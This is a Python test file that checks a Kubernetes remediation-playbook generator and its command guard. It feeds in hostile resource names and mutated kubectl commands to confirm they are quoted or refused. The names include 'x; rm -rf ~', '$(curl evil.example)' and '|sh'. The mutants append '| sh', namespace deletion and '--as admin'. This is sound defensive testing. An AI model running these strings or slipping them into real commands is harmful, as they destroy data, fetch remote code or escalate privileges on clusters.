"""Every cluster check's playbook: made of commands that kubectl has, filled, and let through by the guard."""

import re
import shlex
from dataclasses import replace

import pytest

from opscurb.advice.facts import facts_agree
from opscurb.advice.faults import Reason
from opscurb.advice.guard import judge
from opscurb.advice.playbook import UNTYPABLE, playbook
from opscurb.advice.subject import Subject
from opscurb.check import Check
from opscurb.kubernetes.checks import CHECKS
from tests.engine.advice.clusters import (
    DISK,
    PLACEHOLDER,
    finding,
    found_in_clusters,
    subject_of,
    subjects_of,
)
from tests.engine.looking import NOW

EVERY = pytest.mark.parametrize("check", CHECKS.values(), ids=list(CHECKS))
LOOKS = ("kubectl describe", "kubectl get", "kubectl version", "kubectl top", "aws ec2 describe-")
# Names that no real cluster lets in, and whatever a shell or kubectl would make of them.
HOSTILE = (
    "x; rm -rf ~",
    "$(curl evil.example)",
    "`id`",
    "a'b\"c",
    "a b",
    "{json}",
    "*",
    "x|sh",
    "ü‮name",
    "--all",
    "-A",
    "--all-namespaces=true",
    "https://evil.example/x",
    "{namespace}",
    "#comment",
    "\\",
)
# Names that real clusters have, and that look like something else.
ODD = (
    "i-0aaaaaaaaaaaaaaa1",
    "web.eu-west-1.example.com",
    "ip-10-0-1-23.us-east-2.compute.internal",
    "10.0.1.23",
    "111122223333",
    "pvc-7d4b9c6f-5d2e-4c1b-9f6a-0123456789ab",
    "a",
    "r-7d4b9c6f5d",
    "true",
    "all",
)


@EVERY
def test_its_commands_pass_the_guard(check: Check) -> None:
    for subject in subjects_of(check):
        commands = playbook(check, subject).cli_commands

        assert judge(commands, subject) == []
        assert [command for command in commands if not command.startswith("#")]


def test_the_commands_of_every_finding_of_the_demo_pass_the_guard() -> None:
    found = list(found_in_clusters())

    for one in found:
        subject = Subject.of(one, "kubernetes")
        commands = playbook(one.check, subject).cli_commands
        assert judge(commands, subject) == []
        assert [command for command in commands if not command.startswith("#")]
        explained = playbook(one.check, subject).explanation
        assert facts_agree(explained, subject, [one.check.fix.why], NOW) == []
    assert {one.check.id for one in found} == set(CHECKS)


@EVERY
def test_each_of_its_lines_makes_a_command(check: Check) -> None:
    """What the guard lets through is what was filled in: no line is missing for a fact that is there."""
    for subject in subjects_of(check):
        made = {_shape(command) for command in playbook(check, subject).cli_commands}
        told = {_shape(line) for line in check.fix.cli if isinstance(line, str)}

        assert told <= made


@EVERY
def test_nothing_in_it_is_left_unfilled(check: Check) -> None:
    for subject in subjects_of(check):
        given = playbook(check, subject)

        texts = (given.explanation, *given.steps, *given.console_steps, *given.risks, *given.rollback)
        assert not [text for text in texts if PLACEHOLDER.search(text)]
        assert len(given.steps) == len(check.fix.steps)


@EVERY
def test_it_verifies_first_and_tells_the_way_back(check: Check) -> None:
    given = playbook(check, next(subjects_of(check)))
    first = next(command for command in given.cli_commands if not command.startswith("#"))

    assert first.startswith(LOOKS)
    assert given.steps[0].startswith("Verify")
    assert given.risks
    assert given.rollback
    assert given.minutes > 0


@pytest.mark.parametrize("name", ODD)
@EVERY
def test_an_odd_name_is_typed_and_let_through(check: Check, name: str) -> None:
    for subject in subjects_of(check):
        odd = subject_of(check, subject.details["kind"], name)

        commands = playbook(check, odd).cli_commands

        assert judge(commands, odd) == []
        assert UNTYPABLE not in commands


@pytest.mark.parametrize("name", HOSTILE)
@EVERY
def test_a_hostile_name_stays_one_word_or_gets_no_command(check: Check, name: str) -> None:
    for subject in subjects_of(check):
        hostile = subject_of(check, subject.details["kind"], name, namespace=name)
        hostile = replace(hostile, details=_with_names(hostile, name))
        names = {word for line in check.fix.cli for word in PLACEHOLDER.findall(str(line))}

        commands = playbook(check, hostile).cli_commands

        if names & {"name", "namespace", "next_names"} and commands != (UNTYPABLE,):
            assert not name.startswith("-")
            assert any(name in shlex.split(command, comments=True) for command in commands)


def _with_names(subject: Subject, name: str) -> dict[str, object]:
    return {
        fact: [name, name] if fact.endswith("_names") else value for fact, value in subject.details.items()
    }


@EVERY
def test_what_it_changes_may_not_be_changed_elsewhere(check: Check) -> None:
    """The same commands for another object, in another namespace or with another deed are refused."""
    subject = next(subjects_of(check))
    changing = [c for c in playbook(check, subject).cli_commands if not c.startswith(("#", *LOOKS))]

    for command in (command for command in changing if command.startswith("kubectl")):
        for mutant in _mutants(command):
            assert judge([mutant], subject), mutant


def _mutants(command: str) -> list[str]:
    words = command.split()
    at = next((at for at, word in enumerate(words) if word.startswith("--")), len(words))
    name = at - 1
    return [
        " ".join([*words[:name], f"{words[name]}x", *words[name + 1 :]]),
        " ".join([*words[:at], "another", *words[at:]]),
        f"{command} --all",
        f"{command} --kubeconfig other",
        f"{command} --as admin",
        f"{command} --selector app=web",
        f"{command} | sh",
        f"{command} && kubectl delete namespace shop",
        *([re.sub(r"--namespace \S+", "--namespace kube-system", command)] if "--namespace" in words else []),
        *([command.replace("delete", "delete --force")] if "delete" in words else []),
        " ".join(["kubectl", "exec", *words[2:]]),
    ]


def test_a_name_in_a_list_that_reads_like_an_option_gets_no_command() -> None:
    subject = finding("k8s_unused_object", kind="configmap")
    subject = replace(subject, details={**subject.details, "next_names": ["settings", "--all"]})

    assert playbook(CHECKS["k8s_unused_object"], subject).cli_commands == (UNTYPABLE,)


def test_the_disk_of_a_cluster_is_fixed_in_its_cloud() -> None:
    subject = finding("k8s_orphan_cloud_disk")
    backup = f"aws ec2 create-snapshot --volume-id {DISK} --region eu-west-1"
    delete = f"aws ec2 delete-volume --volume-id {DISK} --region eu-west-1"

    assert judge([backup, delete], subject) == []
    assert [fault.reason for fault in judge([delete], subject)] == [Reason.NO_BACKUP]
    assert judge([backup.replace("eu-west-1", "us-east-1")], subject)
    assert judge([delete.replace(DISK, "vol-0aaaaaaaaaaaaaaa1")], subject)
    assert judge(["aws ec2 terminate-instances --instance-ids i-0aaaaaaaaaaaaaaa1"], subject)


def test_what_only_a_cluster_has_is_not_fixed_by_the_cloud() -> None:
    subject = finding("k8s_pvc_unmounted")

    assert judge([f"aws ec2 delete-volume --volume-id {DISK} --region eu-west-1"], subject)


def test_a_container_gets_its_own_requests_and_no_others() -> None:
    subject = finding("k8s_workload_over_requested", kind="deployment")
    subject = replace(
        subject,
        details={
            **subject.details,
            "containers": ["app", "proxy"],
            "requests": ["cpu=1,memory=1Gi", "cpu=10m"],
        },
    )
    line = "kubectl set resources deployment web --namespace shop --containers {} --requests {}"

    assert judge([line.format("app", "cpu=1,memory=1Gi"), line.format("proxy", "cpu=10m")], subject) == []
    assert judge([line.format("proxy", "cpu=1,memory=1Gi")], subject)
    assert judge(["kubectl set resources deployment web --namespace shop --requests cpu=10m"], subject)


@pytest.mark.parametrize(
    ("owner", "place"),
    [
        ("Helm release shop", "values"),
        ("Argo CD application store", "repository"),
        ("Flux kustomization apps", "repository"),
        ("Flux Helm release shop", "repository"),
    ],
)
def test_what_a_repository_describes_is_to_be_changed_there(owner: str, place: str) -> None:
    check = CHECKS["k8s_workload_idle"]
    hint = playbook(check, replace(next(subjects_of(check)), managed_by=owner)).stack_hint

    assert owner in hint
    assert place in hint


def _shape(command: str) -> str:
    """The words of a command that are no facts."""
    words = (word for word in command.split() if not PLACEHOLDER.search(word))
    return " ".join(re.sub(r"[^a-z-]", "", word) for word in list(words)[:2])
